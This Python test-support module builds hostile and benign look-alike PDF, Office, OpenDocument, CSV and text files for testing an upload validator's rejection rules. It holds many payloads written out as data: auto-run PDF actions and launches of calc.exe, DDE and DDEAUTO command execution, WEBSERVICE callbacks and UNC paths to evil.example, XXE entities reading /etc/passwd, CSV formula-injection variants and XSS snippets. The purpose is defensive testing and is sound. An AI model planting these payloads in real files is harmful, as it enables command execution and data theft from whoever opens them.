"""Files that act or call home when somebody opens them, and honest ones that look alike."""

from collections.abc import Callable, Iterator
from xml.sax.saxutils import escape, quoteattr

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from dnk_tool.domain.evidence import FileRejectionReason
from tests.support.files.evidence_files import (
    HTML,
    ODT,
    SPREADSHEET,
    WORDS,
    external_relation,
    office_file,
    open_document,
    pdf,
)

UNC = "\\\\evil.example\\share\\a"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
TABLE = 'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'

File = tuple[str, bytes]


def _action(kind: str, **more: object) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **more)


def _opening(action: Callable[[pikepdf.Pdf], object]) -> bytes:
    """A PDF that does something as soon as it is opened."""

    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = action(made)

    return pdf(change=change)


def _clicked(action: Dictionary, **more: object) -> bytes:
    """A PDF with a link that does something on a click."""

    def change(made: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action, **more)
        made.pages[0].Annots = Array([made.make_indirect(note)])

    return pdf(change=change)


def _on_page(action: Dictionary) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].AA = Dictionary(O=action)

    return pdf(change=change)


def _in_field(made: pikepdf.Pdf) -> None:
    field = Dictionary(
        FT=Name.Tx, T=String("a"), AA=Dictionary(F=_action("URI", URI=String("https://a.example")))
    )
    made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]))


def _in_names(made: pikepdf.Pdf) -> None:
    action = made.make_indirect(_action("GoToR", F=String(UNC)))
    made.Root.Names = Dictionary(Pages=Dictionary(Names=Array([String("a"), action])))


def _in_outline(made: pikepdf.Pdf) -> None:
    entry = Dictionary(Title=String("a"), A=_action("GoToE", F=String(UNC)))
    made.Root.Outlines = Dictionary(Type=Name.Outlines, First=made.make_indirect(entry))


def _stream_elsewhere(made: pikepdf.Pdf) -> None:
    made.pages[0].Contents = made.make_stream(b"", F=String(UNC))


def _replaced_picture(made: pikepdf.Pdf) -> None:
    proxy = Dictionary(Type=Name.OPI, Version=1.3, F=String(UNC))
    picture = made.make_stream(b"\0", Type=Name.XObject, Subtype=Name.Image, OPI=Dictionary({"/1.3": proxy}))
    made.pages[0].Resources = Dictionary(XObject=Dictionary(A=picture))


def _page_of_another_file(made: pikepdf.Pdf) -> None:
    form = made.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, Ref=Dictionary(F=String(UNC), Page=0))
    made.pages[0].Resources = Dictionary(XObject=Dictionary(A=form))


def _file_by_address(made: pikepdf.Pdf) -> None:
    made.Root.AF = Array([Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("https://evil.example/a"))])


def _base_elsewhere(made: pikepdf.Pdf) -> None:
    made.Root.URI = Dictionary(Base=String("file://evil.example/"))


def _film(made: pikepdf.Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
    made.pages[0].Annots = Array([made.make_indirect(note)])


def _endless_chain(made: pikepdf.Pdf) -> Dictionary:
    action = made.make_indirect(_action("GoTo", D=Array([0, Name.Fit])))
    action.Next = action
    return action


def _attached(name: str, content: bytes) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.attachments[name] = content

    return pdf(change=change)


def _spelled_otherwise() -> bytes:
    """GoToR with one letter written as a number: to readers the same name."""
    return _clicked(_action("GoToR", F=String(UNC))).replace(b"/GoToR", b"/G#6fToR")


def _words(body: str, *parts: tuple[str, str]) -> bytes:
    content = f'<w:document {W} xmlns:r="r" xmlns:v="urn:schemas-microsoft-com:vml">{body}</w:document>'
    return office_file(WORDS, {"word/document.xml": content, **dict(parts)})


def _field(code: str, pieces: int = 1) -> str:
    """A field whose code is split over so many runs."""
    size = -(-len(code) // pieces)
    runs = [code[at : at + size] for at in range(0, len(code), size)]
    texts = "".join(
        f'<w:r><w:instrText xml:space="preserve">{escape(run)}</w:instrText></w:r>' for run in runs
    )
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f"<w:p>{mark.format('begin')}{texts}{mark.format('separate')}{mark.format('end')}</w:p>"


def _linked_heading() -> str:
    """A line of a table of contents: the text of a link, with the page in a field."""
    head, _separate, tail = _field('HYPERLINK \\l "_Toc1"').rpartition("<w:r><w:fldChar")
    page = _field("PAGEREF _Toc1 \\h").removeprefix("<w:p>").removesuffix("</w:p>")
    return f"{head}<w:r><w:t>Link (file:///a)</w:t></w:r>{page}<w:r><w:fldChar{tail}"


def _simple_field(code: str) -> bytes:
    return _words(f"<w:p><w:fldSimple w:instr={quoteattr(code)}/></w:p>")


def _sheet(formula: str, *, encoding: str = "utf-8") -> bytes:
    text = f"<worksheet {SHEET}><sheetData><row><c><f>{escape(formula)}</f></c></row></sheetData></worksheet>"
    head = f'<?xml version="1.0" encoding="{encoding}"?>'
    return office_file(SPREADSHEET, {"xl/worksheets/sheet1.xml": (head + text).encode(encoding)})


def _noted(shape: str) -> bytes:
    """A table with a button and a note, whose drawing Excel writes with line breaks left open."""
    drawing = (
        '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
        'xmlns:x="urn:schemas-microsoft-com:office:excel"><o:shapelayout v:ext="edit"/>'
        '<v:shape id="_x0000_s1025" type="#_x0000_t201" style="position:absolute" o:button="t">'
        '<v:textbox style="mso-direction-alt:auto" o:singleclick="f"><div style="text-align:center">'
        '<font face="Calibri" size="220" color="#000000">Werte<br>\r\n    '
        "eintragen<br></font></div></v:textbox>"
        f'{shape}<x:ClientData ObjectType="Button"><x:Anchor>1, 0, 1, 0</x:Anchor></x:ClientData>'
        "</v:shape></xml>"
    )
    return office_file(SPREADSHEET, {"xl/drawings/vmlDrawing1.vml": drawing})


def _workbook(body: str) -> bytes:
    return office_file(SPREADSHEET, {"xl/workbook.xml": f"<workbook {SHEET}>{body}</workbook>"})


def _cell(formula: str) -> bytes:
    return open_document(body=f"<table:table-cell {TABLE} table:formula={quoteattr(formula)}/>")


def _refused_pdfs() -> Iterator[tuple[str, bytes, FileRejectionReason]]:
    actions, elsewhere, scripts = (
        FileRejectionReason.ACTIONS,
        FileRejectionReason.ELSEWHERE,
        FileRejectionReason.SCRIPTS,
    )
    web = String("https://evil.example/")
    yield "opens an address", _opening(lambda _made: _action("URI", URI=web)), actions
    yield "opens another file", _opening(lambda _made: _action("GoToR", F=String(UNC))), actions
    yield "opens a file within another", _opening(lambda _made: _action("GoToE", F=String(UNC))), actions
    yield "prints by itself", _opening(lambda _made: _action("Named", N=Name.Print)), actions
    yield (
        "opens an address after a page",
        _opening(lambda _made: _action("GoTo", D=Array([0, Name.Fit]), Next=_action("URI", URI=web))),
        actions,
    )
    yield "never stops turning pages", _opening(_endless_chain), actions
    yield "sends itself", _opening(lambda _made: _action("SubmitForm", F=web)), scripts
    yield "page opens an address", _on_page(_action("URI", URI=web)), actions
    yield "page opens another file", _on_page(_action("GoToR", F=String(UNC))), actions
    yield "field opens an address", pdf(change=_in_field), actions
    yield "link to another file", _clicked(_action("GoToR", F=String(UNC))), elsewhere
    yield "link to another file, spelled otherwise", _spelled_otherwise(), elsewhere
    yield "link to a file within another", _clicked(_action("GoToE", F=String(UNC))), elsewhere
    yield "link reads a thread elsewhere", _clicked(_action("Thread", F=String(UNC), D=0)), elsewhere
    yield "button sends", _clicked(_action("SubmitForm", F=web)), scripts
    yield "button takes data in", _clicked(_action("ImportData", F=String(UNC))), scripts
    yield "button starts a program", _clicked(_action("Launch", F=String("calc.exe"))), scripts
    for address in (
        "file:///c:/a",
        "javascript:alert(1)",
        "java\nscript:alert(1)",
        UNC,
        "//evil.example/a",
        "smb://a/b",
    ):
        yield f"link to {address!r}", _clicked(_action("URI", URI=String(address))), elsewhere
    yield "link relative to another machine", pdf(change=_base_elsewhere), elsewhere
    yield "tree of names", pdf(change=_in_names), elsewhere
    yield "bookmark to another file", pdf(change=_in_outline), elsewhere
    yield "stream in another file", pdf(change=_stream_elsewhere), elsewhere
    yield "picture in another file", pdf(change=_replaced_picture), elsewhere
    yield "page of another file", pdf(change=_page_of_another_file), elsewhere
    yield "file by its address", pdf(change=_file_by_address), elsewhere
    yield "film", pdf(change=_film), scripts
    yield (
        "attached table calls home",
        _attached("a.csv", b'a;"=WEBSERVICE(""http://a"")"'),
        FileRejectionReason.FORMULAS,
    )
    yield "attached PDF acts", _attached("a.pdf", _opening(lambda _made: _action("URI", URI=web))), actions


def _refused_words() -> Iterator[tuple[str, bytes, FileRejectionReason]]:
    fields, linked = FileRejectionReason.FIELDS, FileRejectionReason.LINKED
    for code in (
        'INCLUDEPICTURE "https://evil.example/a.png" \\d',
        f'includepicture "{UNC}"',
        f'INCLUDETEXT "{UNC}"',
        f'LINK Excel.Sheet.8 "{UNC}" "a" \\a \\p',
        f'IMPORT "{UNC}"',
        'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"',
        f'HYPERLINK "{UNC}"',
        'HYPERLINK \\o "Tipp" "file:///c:/a.exe"',
        f'HYPERLINK \\h "{UNC}"',
        f"HYPERLINK {UNC} \\h",
        f'HYPERLINK "https://a.example" \\h {UNC}',
        'HYPERLINK "\\evil\\share"',
        "HYPERLINK \\hfile:///c:/a.exe",
        'HYPERLINK \\l "a" "file:///c:/a.exe" \\* MERGEFORMAT',
        'HYPERLINK \\o "a\\" \\o "file:///c:/a.exe"',
        'QUOTE "a" DDE "cmd"',
        'hyperlink "file:///c:/a.exe"',
        "HYPERLINK \u201cfile:///c:/a.exe\u201d",
        "HYPERLINK \u201efile:///c:/a.exe\u201c",
        'HYPERLINK \\l "a\u201d file:///c:/a.exe \\t "_blank"',
        "includetext a",
    ):
        name = code.partition(" ")[0]
        yield f"simple field {code}", _simple_field(f"  {code}"), fields
        yield f"split field {name} {code[-9:]}", _words(_field(f" {code}", 7)), fields
    yield (
        "field in a header",
        office_file(WORDS, {"word/header1.xml": f"<w:hdr {W}>{_field('INCLUDETEXT a')}</w:hdr>"}),
        fields,
    )
    yield (
        "field in a field",
        _words(_field("IF 1 = 1").replace("</w:p>", _field("IMPORT a") + "</w:p>")),
        fields,
    )
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    coded = "<w:r><w:instrText>{}</w:instrText></w:r>"
    # The inner field gives the address, sign by sign.
    address = f"{begin}{coded.format('QUOTE 102 105 108 101 58 47')}{end}"
    for what, code in (
        ("address by a field", f"{coded.format('HYPERLINK ')}{address}"),
        ("field before the name", f"{address}{coded.format('INCLUDETEXT a')}"),
        ("name around a field", f"{coded.format('INCLUDE')}{address}{coded.format('TEXT a')}"),
        (
            "behind a deleted word",
            f"<w:r><w:delInstrText>PAGE </w:delInstrText></w:r>{coded.format('INCLUDETEXT a')}",
        ),
        ("partly as text", f"{coded.format('INCLUDE')}<w:r><w:t>TEXT a</w:t></w:r>"),
        ("as text", "<w:r><w:t>INCLUDETEXT a</w:t></w:r>"),
        ("text before it", f"<w:r><w:t>PAGE </w:t></w:r>{coded.format('INCLUDETEXT a')}"),
    ):
        yield f"field {what}", _words(f"<w:p>{begin}{code}{end}</w:p>"), fields
    yield (
        "html read in",
        _words('<w:altChunk r:id="r1"/>', ("word/a.html", HTML.decode())),
        FileRejectionReason.SCRIPTS,
    )
    for kind, target in (
        ("hyperlink", UNC),
        ("hyperlink", "file://evil.example/a"),
        ("hyperlink", "ms-word:ofe|u|https://evil.example"),
        ("attachedTemplate", "https://evil.example/t.dotm"),
        ("frame", "https://evil.example"),
    ):
        relations = ("word/_rels/document.xml.rels", external_relation(kind, target))
        yield f"{kind} to {target}", _words("", relations), linked
    unnamed = external_relation("image", "https://evil.example/a.png").replace(' TargetMode="External"', "")
    yield "picture by its address", _words("", ("word/_rels/document.xml.rels", unnamed)), linked
    yield "picture of an old drawing", _words(f'<v:imagedata src="{UNC}"/>'), linked
    yield "data of a letter", _words('<w:connectString w:val="Provider=x"/>'), linked


FORMULAS = (
    'WEBSERVICE("https://evil.example/?"&A1)',
    '_xlfn.IMAGE("https://evil.example/a.png")',
    "1+webservice(A1)",
    'FILTERXML(A1,"//a")',
    'HYPERLINK("\\\\evil.example\\a","Rechnung")',
    "cmd|'/c calc'!A1",
    "1+cmd|'/c calc'!A1",
    "'\\\\evil.example\\share\\[a.xlsx]Tabelle1'!A1",
    "'https://evil.example/[a.xlsx]T'!A1",
    "[a.xlsx]T!A1",
    'IF(A1>1,2,CALL("Kernel32","WinExec","JFJ","calc",0))',
    'DDE("cmd";"/c calc";"a")',
    'RTD("evil.a",,"b")',
    '\'a"b\'!A1&WEBSERVICE(A1)&"x"',
)


_CALLING_LINES = (
    "=cmd|' /c calc'!A1",
    "-5+cmd|' /c calc'!A1;2",
    "-1,5+cmd|' /c calc'!A1",
    "-1,*cmd|' /c calc'!A1",
    "-3;=1,5+WEBDIENST(A1)",
    "=2*,5+WEBDIENST(A1)",
    "=1, &WEBDIENST(A1)",
    '=IF(A1;"a;b";WEBSERVICE(A1))',
    '=";"&WEBSERVICE(A1)',
    '=""&WEBSERVICE(A1)&""',
    '="a;=WEBSERVICE(A1);b"',
    '"=1"&WEBSERVICE(A1)',
    '""=WEBSERVICE(A1)',
    '=(;"=WEBSERVICE(""a"")"',
    "='a;b'!A1&WEBSERVICE(A1)",
    "=A1;cmd|' /c calc'!A1",
    "=A1,cmd|' /c calc'!A1",
    "=1:1,cmd|' /c calc'!A1",
    "-1|=BILD(A1)",
    "-2\t+CALL(A1)",
    '="a;"="";""&WEBSERVICE(A1)"',
    '"=1\n"&WEBSERVICE(A1)',
    '"=""a\n""&WEBSERVICE(A1)&""b"""',
    'a|"-1;"="";\n""&WEBSERVICE(A1)"',
    '"\n="";""&WEBSERVICE(A1)"',
    '"\t=WEBSERVICE(A1)"',
    "\r=WEBSERVICE(A1)",
    "\t@WEBSERVICE(A1)",
    *(f'="{sign}"&WEBSERVICE(A1)' for sign in "\f\x85\u2028\u2029"),
    *(f"{sign}=WEBSERVICE(A1)" for sign in "\ufeff\u200b\xa0"),
    '-"a\t=";"&WEBSERVICE(A1)',
    ';="|=1-";"&WEBSERVICE(A1)&";"',
    ',"\t"=A1&\n1&WEBSERVICE(A1)&""a"""',
    "\uff1dWEBSERVICE(A1)",
    "\uff0b\uff37EBSERVICE(A1)",
    "\uff0dcmd\uff5c' /c calc'!A1",
    "\uff20WEBSERVICE(A1)",
)
# The first line names the sign between the cells.
_NAMED_DELIMITERS = ("sep=^\nx^=WEBSERVICE(A1)", '"SEP=:"\r\nx:"=""a""&WEBSERVICE(A1)"', "sep= \n1 -CALL(A1)")
# Numbers, dashes and telephone numbers, and beside them words that are names of functions, too.
_HONEST_LINES = (
    "-1500,00;Register (Kasse)",
    "-3;Importe (EU)",
    "-5;Bild (siehe Anhang)",
    "-2;Call (Service)",
    '"-1500,00";"Register (Kasse)"',
    "-3,Importe (EU)",
    "-1.5,Bild (siehe Anhang)",
    "-5\tBild (siehe Anhang)",
    "-5|Bild (siehe Anhang)",
    "- 5 %;Bild (siehe Anhang)",
    "-;Bild (siehe Anhang)",
    "-12 t;Importe (EU)",
    "+49 (0)521/12-3;Call (Service)",
    "@firma;Bild (1);-4;Bild (2)",
    "-5;siehe [Plan.xlsx];\\\\server\\ablage",
    '"=SUM(A1;A2)";Bild (Summe)',
    "=SUMME(A1;A2);Bild (Summe)",
    '"-1500,00\n(netto)";"Register (Kasse)"',
    '"Anlage";"siehe\n- Bild 1"',
    "\u20131\xa0500,00\xa0€;Register (Kasse)…",
)


def _refused_tables() -> Iterator[tuple[str, str, bytes, FileRejectionReason]]:
    formulas, linked = FileRejectionReason.FORMULAS, FileRejectionReason.LINKED
    for formula in FORMULAS:
        yield f"cell {formula}", "a.xlsx", _sheet(formula), formulas
    yield "cell in UTF-16", "a.xlsx", _sheet(FORMULAS[0], encoding="utf-16"), formulas
    for part in ("xl/worksheets/sheet1.xml", "xl/styles.xml", "xl/sharedStrings.xml"):
        for entity in ('"&#60;f&#62;WEBSERVICE(A1)&#60;/f&#62;"', 'SYSTEM "file:///etc/passwd"'):
            for encoding in ("utf-8", "iso-8859-1", "utf-16"):
                head = f'<?xml version="1.0" encoding="{encoding}"?>'
                typed = f"{head}<!DOCTYPE a [<!ENTITY x {entity}>]><a>&x;</a>".encode(encoding)
                what = f"entity {entity[:6]} in {part} in {encoding}"
                yield what, "a.xlsx", office_file(SPREADSHEET, {part: typed}), FileRejectionReason.BROKEN
    yield (
        "cell with prefix",
        "a.xlsx",
        office_file(
            SPREADSHEET, {"xl/worksheets/sheet1.xml": '<x:a xmlns:x="x"><x:f>&#87;EBSERVICE(A1)</x:f></x:a>'}
        ),
        formulas,
    )
    yield (
        "name",
        "a.xlsx",
        _workbook(f"<definedName>{FORMULAS[0]}</definedName>".replace("&", "&amp;")),
        formulas,
    )
    yield "rule", "a.xlsx", _workbook(f"<formula1>{FORMULAS[5]}</formula1>"), formulas
    yield "drawing with line breaks", "a.xlsx", _noted(f'<br><v:imagedata src="{UNC}"/>'), linked
    for shape in (
        f'<v:fill src="{UNC}"/>',
        f'<v:imagedata SRC="{UNC}"/>',
        f'<v:imagedata o:althref="{UNC}"/>',
        f'<img src="{UNC}"/>',
        '<v:shape href="file:///c:/a.exe"/>',
    ):
        yield f"drawing {shape}", "a.xlsx", _noted(shape), linked
    macro = f"<x:ClientData><x:FmlaMacro>'{UNC}.xlsm'!a</x:FmlaMacro></x:ClientData>"
    yield "macro of another file", "a.xlsx", _noted(macro), formulas
    yield "broken drawing", "a.xlsx", _noted("<v:shape>"), FileRejectionReason.BROKEN
    yield (
        "drawing hidden by a line break",
        "a.xlsx",
        _noted(f'<!</br>--<v:imagedata src="{UNC}"/>-->'),
        FileRejectionReason.BROKEN,
    )
    for formula in (
        "of:=WEBSERVICE([.A1])",
        "of:=COM.MICROSOFT.WEBSERVICE([.A1])",
        'of:=DDE("soffice";"a";"b")',
        "of:=['file://evil.example/a.ods'#$T.A1]",
        "msoxl:=cmd|'/c calc'!A1",
    ):
        yield f"cell {formula}", "a.ods", _cell(formula), formulas
    yield "source of a table", "a.ods", open_document(body=f'<table-source xlink:href="{UNC}"/>'), linked
    yield (
        "picture of a table",
        "a.ods",
        open_document(body='<image xlink:href="https://evil.example/a.png"/>'),
        linked,
    )
    yield "link to a machine", "a.odt", open_document(ODT, f'<a xlink:href="{UNC}"/>'), linked
    meta = '<meta xmlns:xlink="http://www.w3.org/1999/xlink"><{} xlink:href="{}"/></meta>'
    for kind, address in (
        ("auto-reload", "https://evil.example"),
        ("template", "file://evil.example/a.ott"),
        ("template", "file:////evil.example/a.ott"),
    ):
        part = {"meta.xml": meta.format(kind, address)}
        yield f"{kind} at {address}", "a.odt", open_document(ODT, more=part), linked
    for text in (
        '=IMAGE("https://evil.example/a")',
        '"=1+BILD(""https://evil.example/a"")"',
        '=WEBDIENST("http://a")',
        "@SUM(1)+cmd|'/c calc'!A1",
        '"=\nWEBSERVICE(A1)"',
        '=DDE("cmd";"/c calc";"a")',
        '=HYPERLINK("\\\\evil.example\\a")',
    ):
        for content in (f"Name;{text}\n", f"1\n {text};2", f"-1500,00;{text}"):
            yield f"csv {content!r}", "a.csv", content.encode(), formulas
    for text in (*_CALLING_LINES, *_NAMED_DELIMITERS, *(f"x;={formula}" for formula in FORMULAS)):
        yield f"csv line {text!r}", "a.csv", text.encode(), formulas
    for text in (
        "Betreff\n<script>alert(1)</script>",
        'a;b\n1;<IMG src="//evil.example">',
        "Text <svg/onload=alert(1)>",
        "a" * 2_000 + "<iframe src=x>",
        "Vorwort\n<!DOCTYPE  html>",
    ):
        yield f"html {text[-30:]!r}", "a.txt", text.encode(), FileRejectionReason.MARKUP


def refused_acting_files() -> dict[str, tuple[str, bytes, FileRejectionReason]]:
    """What is done, the name, the content, and what people are told."""
    return {
        **{f"pdf {what}": ("a.pdf", content, why) for what, content, why in _refused_pdfs()},
        **{f"docx {what}": ("a.docx", content, why) for what, content, why in _refused_words()},
        **{f"{name} {what}": (name, content, why) for what, name, content, why in _refused_tables()},
    }


def _with_bookmarks(made: pikepdf.Pdf) -> None:
    page = made.pages[0].obj
    entry = Dictionary(Title=String("Seite 1"), A=_action("GoTo", D=Array([page, Name.Fit])))
    made.Root.Outlines = Dictionary(Type=Name.Outlines, First=made.make_indirect(entry))
    made.Root.Dests = Dictionary(a=Array([page, Name.Fit]))
    field = Dictionary(FT=Name.Tx, T=String("Name"), V=String("Anna"))
    made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]))
    made.Root.StructTreeRoot = Dictionary(
        Type=Name.StructTreeRoot, K=made.make_indirect(Dictionary(S=Name.Link, Ref=Array([page])))
    )


def accepted_acting_files() -> dict[str, File]:
    """What is in the file, its name and its content."""
    links = (
        "https://a.example",
        "http://a.example/b?c=d",
        "mailto:a@b.de",
        "tel:+49521",
        "www.a.example",
        "#seite",
    )
    formulas = (
        "SUM(A1:A9)",
        "VLOOKUP(A1,'Stand 2025'!A:B,2,FALSE)",
        'IF(A1>0,"a|b!","IMAGE(x)")',
        "Tabelle1[Summe]*2",
        'HYPERLINK("https://a.example","Mehr")',
        "'Stand 1'!A1/'Stand 2'!B1",
        "A1#",
        "_xlfn.XLOOKUP(A1,B:B,C:C)",
        'TEXT(A1,"0.00 ""Data: """)&"Profile: "&A2',
        "IMAGINARY(A1)+IMREAL(A2)",
    )
    ods = ("of:=SUM([.A1:.A9])", "of:=['Stand 1'.A1]+[$Tabelle2.B1]", 'of:=IF([.A1]>{1;2|3;4};"a|b";"c")')
    fields = (
        "PAGE",
        'TOC \\o "1-3" \\h \\z \\u',
        'HYPERLINK "https://a.example/LINK"',
        'HYPERLINK \\l "Anlage"',
        'HYPERLINK \\l "Anlage" \\h',
        'HYPERLINK "https://a.example/dde/" \\* MERGEFORMAT',
        'HYPERLINK "https://a.example/" \\l "DDE" \\o "Tipp \\"neu\\" " \\t "_blank" \\h \\* CHARFORMAT',
        "HYPERLINK https://a.example \\h",
        'HYPERLINK "https://a.example" \\o "Tipp \u201eneu\u201c"',
        "REF Link \\h",
        'DATE \\@ "dd.MM.yyyy"',
        "NUMPAGES  \\* MERGEFORMAT",
    )
    open_page = {
        "by action": lambda made: _action("GoTo", D=Array([made.pages[0].obj, Name.Fit])),
        "by place": lambda made: Array([made.pages[0].obj, Name.XYZ, 0, 842, 1]),
    }
    style = '<style:map xmlns:style="s" style:condition="value()>=0" style:apply-style-name="P0"/>'
    return {
        "pdf with bookmarks": ("a.pdf", pdf(change=_with_bookmarks)),
        **{f"pdf opens a page {how}": ("a.pdf", _opening(action)) for how, action in open_page.items()},
        **{f"pdf link to {at}": ("a.pdf", _clicked(_action("URI", URI=String(at)))) for at in links},
        "pdf turns the page": ("a.pdf", _clicked(_action("Named", N=Name.NextPage))),
        "pdf with a table": ("a.pdf", _attached("a.xlsx", _sheet("SUM(A1:A2)"))),
        "pdf of a declaration": ("a.pdf", _attached("dnk-declaration.json", b"{}")),
        **{f"docx {code}": ("a.docx", _words(_field(f" {code} ", 3))) for code in fields},
        **{f"docx simple {code}": ("a.docx", _simple_field(code)) for code in fields},
        **{
            f"docx link to {at}": (
                "a.docx",
                _words("", ("word/_rels/document.xml.rels", external_relation("hyperlink", at))),
            )
            for at in (*links, "Anlage%201.pdf")
        },
        "docx with a field in a link's text": ("a.docx", _words(_linked_heading())),
        "docx with data of its own": (
            "a.docx",
            _words("", ("customXml/item1.xml", '<query xmlns="urn:a">x</query>')),
        ),
        **{f"xlsx {formula}": ("a.xlsx", _sheet(formula)) for formula in formulas},
        **{f"ods {formula}": ("a.ods", _cell(formula)) for formula in ods},
        "xlsx with a note and a button": (
            "a.xlsx",
            _noted(
                '<v:shape href="https://a.example/"><v:fill o:relid="rId1"/></v:shape>'
                "<x:ClientData><x:FmlaMacro>[0]!Knopf</x:FmlaMacro><x:FmlaLink>$A$1</x:FmlaLink></x:ClientData>"
            ),
        ),
        "ods with a rule": ("a.ods", open_document(body=style)),
        "odt link": (
            "a.odt",
            open_document(ODT, '<a xlink:href="mailto:a@b.de"/><image xlink:href="Pictures/1.png"/>'),
        ),
        "odt of a template": (
            "a.odt",
            open_document(
                ODT,
                more={
                    "meta.xml": '<meta xmlns:xlink="http://www.w3.org/1999/xlink">'
                    '<template xlink:href="file:///C:/Vorlagen/Brief.ott"/></meta>'
                },
            ),
        ),
        "csv with formulas": ("a.csv", b'Name;Summe\n"=SUM(A1;A2)";=B2*1,19\n-5;+49 521\n@home | Tor!;1\n'),
        **{f"csv {line!r}": ("a.csv", f"Wert;Text\n{line}\n".encode()) for line in _HONEST_LINES},
        "csv with a link": ("a.csv", b'Name,Link\nA,"=HYPERLINK(""https://a.example"")"\n'),
        "text of a mail": ("a.txt", b"Von: <anna@firma.de>\n1 < 2 und <b>fett</b>, siehe Bild (Seite 3)\n"),
        "text about pictures": ("a.txt", b"- Bild (1): Halle\n- Image (2): =\n"),
    }
